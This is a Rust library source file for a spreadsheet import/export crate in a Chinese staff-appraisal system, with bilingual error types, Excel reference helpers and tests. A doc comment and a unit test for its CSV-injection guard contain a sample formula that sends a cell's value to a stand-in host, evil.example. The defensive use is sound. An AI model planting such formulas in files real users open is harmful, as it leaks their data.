//! kaohe-office: spreadsheets in and out of kaohe (考核), without a database or HTTP.
//!
//! - [`read`]: a table from `.xlsx` or `.csv` — the header row found by itself (merged title
//!   rows and blank rows skipped), every cell as the text a person saw in Excel.
//! - [`import`]: a table matched to a template and parsed into `kaohe_core::input::Row`s,
//!   the same rows the CSV path gives, with problems named by sheet, row and column.
//! - [`form`]: one filled form as an `.xlsx` laid out like the paper sheet; one workbook per
//!   department with a sheet per employee.
//! - [`payroll`]: the payroll export (CSV with BOM, and `.xlsx`) with a checksum row.
//! - [`results`]: the results workbook (ranking and grade distribution per department, the
//!   12-month ledger).
//! - [`text_workbook`]: a plain table of text cells (the organisation export).
//! - [`bench`]: timed import and export runs, for `cargo bench` and the command line.
//!
//! Points and money are `rust_decimal::Decimal` throughout. Floats appear only at the
//! calamine boundary (a number cell is an `f64`), converted by [`read::f64_to_decimal`], and
//! when a decimal is written as an Excel number ([`num_cell`]).
#![forbid(unsafe_code)]

pub mod bench;
pub mod form;
pub mod import;
pub mod limits;
pub mod payroll;
pub mod read;
pub mod results;
mod style;

pub use form::{FilledForm, FormHeader, Signature, Signatures};
pub use import::{
    Imported, Proposal, blank_workbook, header_score, import_table, propose_mapping, resolve_target,
};
pub use limits::Limits;
pub use read::{
    CellIssue, HEADER_SCAN, HeaderPick, IssueKind, Table, TableRow, is_total_label, read_csv,
    read_csv_pick, read_csv_with, read_path, read_path_with, read_xlsx, read_xlsx_pick,
    read_xlsx_with,
};

use rust_decimal::Decimal;
use std::borrow::Cow;

/// A one-sheet workbook of text cells: the header in bold, frozen, then the rows. Every
/// cell is written as text, so a 工号 like `007` stays `007`; `'` guards are the caller's.
pub fn text_workbook(
    sheet: &str,
    headers: &[&str],
    rows: impl IntoIterator<Item = Vec<String>>,
) -> Result<Vec<u8>, OfficeError> {
    let st = style::Styles::new();
    let mut wb = style::workbook();
    let ws = wb.add_worksheet();
    ws.set_name(sheet)?;
    for (c, h) in headers.iter().enumerate() {
        ws.set_column_width(c as u16, 12.0)?;
        ws.write_with_format(0, c as u16, *h, &st.head)?;
    }
    ws.set_freeze_panes(1, 0)?;
    for (i, row) in rows.into_iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            if !v.is_empty() {
                ws.write_string_with_format(i as u32 + 1, c as u16, v, &st.text)?;
            }
        }
    }
    Ok(wb.save_to_buffer()?)
}
use std::fmt;

/// A text cell made safe for a CSV file that Excel or another spreadsheet will open
/// (OWASP "CSV injection"): text starting with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a leading `'`, so it is shown as text and never run as a formula
/// (`=HYPERLINK("http://evil.example/?x="&A1,"李娜")` stays the visible text). Use it for
/// text columns only: a number column's `-12.50` must stay a number.
pub fn csv_safe(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Excel's column letters for a 0-based column: 0 → `A`, 25 → `Z`, 26 → `AA`.
pub fn col_letter(col: usize) -> String {
    let mut n = col + 1;
    let mut s = Vec::new();
    while n > 0 {
        let r = (n - 1) % 26;
        s.push(b'A' + r as u8);
        n = (n - 1) / 26;
    }
    s.reverse();
    String::from_utf8(s).expect("ASCII letters")
}

/// A sheet name as Excel writes it in a reference: quoted when it holds anything but
/// letters, digits, `_` and `.` (`'My Sheet'!C7`, `Sheet1!C7`, `考核数据!C7`).
pub(crate) fn sheet_ref(sheet: &str) -> String {
    if !sheet.is_empty()
        && sheet
            .chars()
            .all(|c| c.is_alphanumeric() || c == '_' || c == '.')
    {
        sheet.to_string()
    } else {
        format!("'{}'", sheet.replace('\'', "''"))
    }
}

/// A problem with one cell, one row or the header of a sheet, in both languages.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CellProblem {
    /// The sheet (for a CSV file: its name).
    pub sheet: String,
    /// 1-based row, as Excel shows it.
    pub row: usize,
    /// 0-based column, when one cell is at fault.
    pub col: Option<usize>,
    /// The column's header (or the template input id), when known.
    pub header: Option<String>,
    /// 简体中文.
    pub zh: String,
    /// English.
    pub en: String,
}

impl CellProblem {
    /// Where: `Sheet1!C7` for a cell, `Sheet1!7:7` for a whole row.
    pub fn place(&self) -> String {
        match self.col {
            Some(c) => format!("{}!{}{}", sheet_ref(&self.sheet), col_letter(c), self.row),
            None => format!("{}!{}:{}", sheet_ref(&self.sheet), self.row, self.row),
        }
    }
}

impl fmt::Display for CellProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.place())?;
        if let Some(h) = &self.header {
            write!(f, " [{h}]")?;
        }
        write!(f, ": {} / {}", self.zh, self.en)
    }
}

/// Everything that can go wrong reading or writing an office file. Messages are
/// "中文 / English", like the rest of kaohe.
#[derive(Debug, thiserror::Error)]
pub enum OfficeError {
    /// The bytes are not an `.xlsx` workbook.
    #[error("不是 .xlsx 文件 / not an .xlsx file: {detail}")]
    NotXlsx { detail: String },
    /// An old binary `.xls` workbook.
    #[error(
        "这是旧版 .xls 文件，请在 Excel 中另存为 .xlsx / this is a legacy .xls file: save it as .xlsx"
    )]
    LegacyXls,
    /// The file's extension is not one we read.
    #[error(
        "不支持的文件类型 `{ext}`，请使用 .xlsx 或 .csv / unsupported file type `{ext}`: use .xlsx or .csv"
    )]
    UnknownType { ext: String },
    /// No sheet of that name.
    #[error("没有名为「{name}」的工作表（有: {}） / no sheet named `{name}` (there are: {})", .available.join("、"), .available.join(", "))]
    NoSuchSheet {
        name: String,
        available: Vec<String>,
    },
    /// The workbook has no sheets at all.
    #[error("工作簿中没有工作表 / the workbook has no sheets")]
    NoSheets,
    /// The sheet holds nothing.
    #[error("工作表「{sheet}」是空的 / sheet `{sheet}` is empty")]
    EmptySheet { sheet: String },
    /// No row has two or more filled cells.
    #[error(
        "工作表「{sheet}」中找不到表头（至少两个非空单元格的一行） / no header row in sheet `{sheet}` (a row with at least two filled cells)"
    )]
    NoHeader { sheet: String },
    /// The CSV could not be read.
    #[error("CSV 第 {line} 行无法读取 / CSV line {line} cannot be read: {detail}")]
    Csv { line: u64, detail: String },
    /// Problems with cells: merged cells in the data area, bad values, duplicates …
    #[error("{}", render_problems(.0))]
    Cells(Vec<CellProblem>),
    /// The file is beyond one of the readers' [`Limits`]; the message names the limit and
    /// the file, part, line or cell (`考核数据!ZZZZZZ2`).
    #[error("{zh} / {en}")]
    TooLarge { zh: String, en: String },
    /// Reading the workbook failed part-way.
    #[error("读取 .xlsx 失败 / cannot read the .xlsx: {0}")]
    Read(String),
    /// Writing a workbook failed.
    #[error("写入 .xlsx 失败 / cannot write the .xlsx: {0}")]
    Write(#[from] rust_xlsxwriter::XlsxError),
    /// A file could not be read or written.
    #[error("文件读写失败 / file error: {0}")]
    Io(#[from] std::io::Error),
}

/// One problem per line; at most 200, then a count of the rest.
pub fn render_problems(ps: &[CellProblem]) -> String {
    let mut s = String::new();
    for p in ps.iter().take(200) {
        s.push_str(&p.to_string());
        s.push('\n');
    }
    if ps.len() > 200 {
        let n = ps.len() - 200;
        s.push_str(&format!("… 另有 {n} 处 / and {n} more\n"));
    }
    s.trim_end().to_string()
}

/// A decimal as the `f64` an Excel number cell holds: parsed from its decimal text, so the
/// nearest double is chosen (a decimal with at most 15 significant digits reads back as
/// itself through [`read::f64_to_decimal`]).
pub fn num_cell(d: Decimal) -> f64 {
    d.normalize().to_string().parse().unwrap_or(0.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn column_letters() {
        assert_eq!(col_letter(0), "A");
        assert_eq!(col_letter(2), "C");
        assert_eq!(col_letter(25), "Z");
        assert_eq!(col_letter(26), "AA");
        assert_eq!(col_letter(27), "AB");
        assert_eq!(col_letter(701), "ZZ");
        assert_eq!(col_letter(702), "AAA");
        assert_eq!(col_letter(16383), "XFD");
    }

    #[test]
    fn csv_safe_neutralises_formulas_only() {
        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"李娜")"#;
        assert_eq!(csv_safe(evil), format!("'{evil}"));
        for s in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_safe(s), format!("'{s}"), "{s:?}");
        }
        for s in ["李娜", "E001", "", "a=b", " =1", "'=1"] {
            assert!(matches!(csv_safe(s), Cow::Borrowed(b) if b == s), "{s:?}");
        }
    }

    #[test]
    fn places_read_like_excel() {
        let p = CellProblem {
            sheet: "Sheet1".into(),
            row: 7,
            col: Some(2),
            header: None,
            zh: "合并单元格".into(),
            en: "merged cells".into(),
        };
        assert_eq!(p.to_string(), "Sheet1!C7: 合并单元格 / merged cells");
        let q = CellProblem {
            sheet: "11月 数据".into(),
            col: None,
            ..p.clone()
        };
        assert_eq!(q.place(), "'11月 数据'!7:7");
        assert_eq!(
            CellProblem {
                sheet: "考核数据".into(),
                ..p
            }
            .place(),
            "考核数据!C7"
        );
    }
}
